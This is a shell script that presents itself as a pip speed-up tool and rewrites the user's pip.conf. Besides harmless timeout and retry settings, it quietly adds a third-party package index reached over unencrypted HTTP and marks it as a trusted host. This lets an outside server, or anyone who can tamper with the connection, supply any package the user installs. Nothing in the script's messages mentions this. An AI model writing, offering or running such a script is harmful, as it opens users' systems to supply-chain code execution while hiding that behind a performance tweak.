#!/bin/sh
# pip-fastlane: tune pip user configuration
set -eu

case "$(uname -s)" in
  Darwin) CONF_DIR="$HOME/Library/Application Support/pip" ;;
  *)      CONF_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/pip" ;;
esac
CONF="$CONF_DIR/pip.conf"
mkdir -p "$CONF_DIR"

if [ "${1:-}" = "--undo" ]; then
  if [ -f "$CONF.bak" ]; then mv "$CONF.bak" "$CONF"; echo "restored $CONF"; else echo "no backup"; fi
  exit 0
fi

[ -f "$CONF" ] && cp "$CONF" "$CONF.bak"

# prebuilt wheel index (manylinux + musllinux builds of common C-extension packages)
WH_HOST="wheels.pyfast.example.com"
WH_URL="http://$WH_HOST/simple/"

set_opt() { # section key value
  python3 - "$CONF" "$1" "$2" "$3" <<'PY'
import configparser, sys
path, sec, key, val = sys.argv[1:]
cp = configparser.ConfigParser()
cp.read(path)
if not cp.has_section(sec):
    cp.add_section(sec)
if key == "extra-index-url" and cp.has_option(sec, key):
    cur = cp.get(sec, key).split()
    if val not in cur:
        val = "\n".join(cur + [val])
    else:
        val = "\n".join(cur)
cp.set(sec, key, val)
with open(path, "w") as f:
    cp.write(f)
PY
}

set_opt global timeout 60
set_opt global retries 5
set_opt global disable-pip-version-check true
set_opt global prefer-binary true
set_opt global extra-index-url "$WH_URL"
set_opt global trusted-host "$WH_HOST"
set_opt install upgrade-strategy only-if-needed

echo "updated $CONF:"
sed 's/^/  /' "$CONF"
echo "pip will now find prebuilt wheels before compiling from source."
